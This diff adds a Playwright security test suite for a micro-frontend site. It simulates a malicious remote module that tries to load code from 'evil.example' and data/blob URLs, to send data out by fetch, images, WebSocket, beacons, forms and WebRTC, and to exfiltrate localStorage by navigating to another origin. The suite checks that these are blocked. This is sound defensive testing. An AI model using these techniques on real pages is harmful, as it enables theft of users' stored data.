@@ -1,0 +1,206 @@
+import { createSocket, type Socket } from 'node:dgram';
+import { createServer, type Server } from 'node:http';
+import type { Page } from '@playwright/test';
+import { freePort, openPublishedSite, type PublishedSite } from '../support/own-site';
+import { expect, test } from '../support/store';
+
+/*
+ * A remote's own code is an attacker's: a bad dependency, a bad colleague, a team's key that was stolen. Its version is published
+ * and composed as any other one, with hashes that are right, and runs in the page. What it can do there and what it can't is said in
+ * `.github/threat-model.md`; what it can is tested too, lest that say less than is true.
+ */
+
+const HOSTILE = '6.6.6';
+
+test.describe('a remote whose code is an attacker’s', () => {
+  let site: PublishedSite;
+  /** Another origin, which no environment names: it answers whatever is asked, and notes it. */
+  let elsewhere: Server;
+  let origin = '';
+  let asked: string[] = [];
+  /** Where a STUN server would be: each packet is one of WebRTC. */
+  let stun: Socket;
+  let packets = 0;
+
+  test.beforeAll(async () => {
+    elsewhere = createServer(({ url = '' }, answer) => {
+      asked.push(url);
+      const isScript = url.endsWith('.js');
+      answer.setHeader('Access-Control-Allow-Origin', '*');
+      answer.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
+      answer.end(isScript ? 'globalThis.pwned = true;' : '<!doctype html><title>Elsewhere</title>');
+    });
+    const port = await freePort();
+    await new Promise<void>((resolve) => elsewhere.listen(port, '127.0.0.1', resolve));
+    origin = `http://127.0.0.1:${port}`;
+    stun = createSocket('udp4');
+    stun.on('message', () => {
+      packets += 1;
+    });
+    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+    // The code of the cart's app module does what the page tells it to: attacks are many, builds take long.
+    site = await openPublishedSite({
+      [HOSTILE]: (file, text) =>
+        /^app.*\.js$/.test(file)
+          ? `globalThis.attack = { import: (address) => import(address) };${text}`
+          : text,
+    });
+    await site.deploy({ cart: [{ version: HOSTILE, traffic: 100, default: true }] }, { overrides: 'deny' });
+  });
+  test.afterAll(async () => {
+    await site.close();
+    stun.close();
+    await new Promise((resolve) => elsewhere.close(resolve));
+  });
+  test.beforeEach(() => {
+    asked = [];
+    packets = 0;
+  });
+  test.use({ expectedConsole: { matching: /./ } });
+
+  const openCart = async (page: Page): Promise<void> => {
+    await page.goto(`${site.url}#/cart`);
+    await expect(page.getByText('Your cart is empty')).toBeVisible();
+    await page.waitForFunction(() => 'attack' in globalThis);
+  };
+
+  for (const [overrides, where] of [
+    ['allow', 'where no Integrity-Policy is sent, nor would be known'],
+    ['deny', 'where every header is sent'],
+  ] as const)
+    test(`imports no code from anywhere but the environment’s origins, ${where} [THREAT-08, THREAT-09]`, async ({
+      page,
+    }) => {
+      await site.deploy({ cart: [{ version: HOSTILE, traffic: 100, default: true }] }, { overrides });
+      await page.route('https://evil.example/**', (route) => {
+        asked.push(route.request().url());
+        const headers = { 'Access-Control-Allow-Origin': '*' };
+        return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.pwned = true', headers });
+      });
+      const answer = await page.goto(site.url);
+      expect('integrity-policy' in (answer?.headers() ?? {})).toBe(overrides === 'deny');
+      await openCart(page);
+      const blob = await page.evaluate(() =>
+        URL.createObjectURL(new Blob(['globalThis.pwned = true'], { type: 'text/javascript' })),
+      );
+      const addresses = [
+        'data:text/javascript,globalThis.pwned=true',
+        blob,
+        'https://evil.example/evil.js',
+        // This machine may take part where overrides are allowed.
+        ...(overrides === 'deny' ? [`${origin}/evil.js`] : []),
+      ];
+      for (const address of addresses) {
+        const outcome = await page.evaluate(
+          (from) =>
+            Reflect.get(globalThis, 'attack')
+              .import(from)
+              .then(
+                () => 'ran',
+                () => 'refused',
+              ),
+          address,
+        );
+        expect([address, outcome]).toEqual([address, 'refused']);
+      }
+      expect(asked).toEqual([]);
+      expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
+    });
+
+  test('sends nothing by WebRTC [THREAT-08, THREAT-09]', async ({ page }) => {
+    const { port } = stun.address();
+    /** Has a page look for its own address at the server, as every connection does first. */
+    const gather = (): Promise<string> =>
+      page.evaluate(async (urls) => {
+        const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
+        connection.createDataChannel('out');
+        await connection.setLocalDescription(await connection.createOffer());
+        return new Promise<string>((resolve) => {
+          const settle = (): void => {
+            if (connection.iceGatheringState === 'complete') resolve(connection.iceGatheringState);
+          };
+          connection.addEventListener('icegatheringstatechange', settle);
+          settle();
+        });
+      }, `stun:127.0.0.1:${port}`);
+    await openCart(page);
+    expect(await gather()).toBe('complete');
+    expect(packets).toBe(0);
+    // There would be some to be seen: from a page without the header there are.
+    await page.goto(origin);
+    const gathered = gather().catch(() => 'ended with its page');
+    await expect.poll(() => packets).toBeGreaterThan(0);
+    await page.goto('about:blank');
+    await gathered;
+  });
+
+  test('sends nothing by what its page’s policy names [THREAT-08, THREAT-09]', async ({ page }) => {
+    await openCart(page);
+    const outcomes = await page.evaluate(async (to) => {
+      const refused = (attempt: Promise<unknown>): Promise<string> =>
+        attempt.then(
+          () => 'sent',
+          () => 'refused',
+        );
+      const loaded = (element: HTMLElement): Promise<unknown> =>
+        new Promise((resolve, reject) => {
+          element.addEventListener('load', resolve);
+          element.addEventListener('error', reject);
+          document.body.append(element);
+        });
+      const image = Object.assign(document.createElement('img'), { src: `${to}/image` });
+      const sheet = Object.assign(document.createElement('link'), {
+        rel: 'stylesheet',
+        href: `${to}/sheet.css`,
+      });
+      const socket = new Promise((resolve, reject) => {
+        const one = new WebSocket(`${to.replace('http', 'ws')}/socket`);
+        one.addEventListener('open', resolve);
+        one.addEventListener('error', reject);
+      });
+      const outcomes: Record<string, string> = {
+        fetch: await refused(fetch(`${to}/fetch`)),
+        image: await refused(loaded(image)),
+        sheet: await refused(loaded(sheet)),
+        socket: await refused(socket),
+      };
+      navigator.sendBeacon(`${to}/beacon`, 'read');
+      const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' });
+      document.body.append(form);
+      const isRefused = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          if (effectiveDirective === 'form-action') resolve();
+        });
+      });
+      form.submit();
+      // A page that goes on before would meet the form on its way, and be aborted by it.
+      await isRefused;
+      return { ...outcomes, form: 'refused' };
+    }, origin);
+    const refused = 'refused';
+    expect(outcomes).toEqual({
+      fetch: refused,
+      image: refused,
+      sheet: refused,
+      socket: refused,
+      form: refused,
+    });
+    // What was asked first would have been noted before this.
+    await page.goto(`${origin}/last`);
+    expect(asked.filter((url) => url !== '/favicon.ico')).toEqual(['/last']);
+  });
+
+  test('can read the page, change it, and leave for another address with what it has read [THREAT-09]', async ({
+    page,
+  }) => {
+    await openCart(page);
+    await page.evaluate(() => localStorage.setItem('read-by-another-remote', 'secret'));
+    await page.evaluate((to) => {
+      document.querySelector('h1')?.replaceChildren('Mine');
+      const read = localStorage.getItem('read-by-another-remote');
+      setTimeout(() => location.assign(`${to}/?${read}`));
+    }, origin);
+    await page.waitForURL(`${origin}/**`);
+    expect(asked).toContain('/?secret');
+  });
+});
